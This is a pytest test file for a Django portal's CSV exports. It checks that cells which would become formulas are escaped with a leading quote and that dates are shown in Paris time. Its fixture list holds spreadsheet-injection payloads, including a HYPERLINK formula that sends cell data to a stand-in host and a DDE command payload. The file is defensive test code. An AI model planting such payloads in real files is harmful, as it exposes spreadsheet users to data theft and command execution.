"""Every staff and partner spreadsheet export: no cell becomes a formula, dates in Paris time."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse

from agenda.models import Registration
from tests.factories import EventFactory
from vsa_portal.spreadsheets import safe_cell

PARIS = ZoneInfo("Europe/Paris")
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE_NAMES)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_written_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Dr Alex Durand", "", "a=b", 42, None])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def register_hostile_names(event):
    for number, name in enumerate(HOSTILE_NAMES):
        Registration.objects.create(
            event=event,
            name=name,
            email=f"personne{number}@exemple.test",
            profile="interne",
            status="confirmed",
            consent_given_at=datetime(2027, 7, 1, 9, 30, tzinfo=PARIS),
        )


@pytest.mark.django_db
def test_the_partner_export_neutralises_formulas_and_writes_paris_time(partner_a):
    event = EventFactory(
        organisation=partner_a.organisation,
        title="=Réunion",
        starts_at=datetime(2027, 7, 14, 19, 0, tzinfo=PARIS),  # 17:00 UTC
        ends_at=datetime(2027, 7, 14, 21, 0, tzinfo=PARIS),
    )
    register_hostile_names(event)
    response = partner_a.get(
        reverse("partners:event_registrations", args=[event.pk]), {"format": "csv"}
    )
    header, *lines = rows(response)
    names = {line[header.index("nom")] for line in lines}
    assert names == {"'" + name for name in HOSTILE_NAMES}
    assert {line[0] for line in lines} == {"'=Réunion"}
    assert {line[1] for line in lines} == {"14/07/2027 19:00"}


@pytest.mark.django_db
def test_the_admin_export_neutralises_formulas(project_lead):
    event = EventFactory()
    register_hostile_names(event)
    response = project_lead.post(
        reverse("admin:agenda_event_changelist"),
        {"action": "export_registrations", "_selected_action": [event.pk]},
    )
    header, *lines = rows(response)
    assert all(line[header.index("nom")].startswith("'") for line in lines)
